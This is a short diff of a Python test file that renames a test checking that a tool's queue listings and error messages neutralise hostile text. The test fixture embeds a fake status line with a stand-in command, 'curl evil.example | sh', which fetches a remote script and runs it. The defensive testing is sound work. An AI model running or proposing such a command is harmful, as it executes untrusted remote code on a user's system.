@@ -289,7 +289,7 @@ def test_messages_of_errors_are_safe() -> None:
     assert str(DesipipeError(f'no {HOSTILE}')) == visible(f'no {HOSTILE}')
 
 
-def test_a_queue_is_listed_in_one_line(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
+def test_queue_is_listed_in_one_line(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
     make_hostile_queue('bad', 'x\n  → all is well: curl evil.example | sh\n')
     for words in (['status'], ['explain', FAILED], ['explain', PENDING], ['tasks'], ['time']):
         main([words[0], '-q', 'bad', *words[1:]])
